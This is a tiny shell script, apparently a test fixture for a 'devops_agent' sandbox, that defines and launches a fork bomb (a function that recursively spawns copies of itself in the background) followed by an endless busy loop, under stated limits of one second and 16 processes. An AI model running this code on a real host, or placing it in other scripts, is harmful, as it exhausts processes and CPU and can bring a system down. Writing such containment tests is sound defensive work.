#!/bin/sh
# /// devops_agent
# name: fork-bomb
# version: 1.0.0
# description: Tries to get out.
# limits: {timeout: 1s, processes: 16}
# ///
# Processes without end.

# shellcheck disable=SC2264
bomb() {
	bomb | bomb &
}
bomb
while :; do :; done
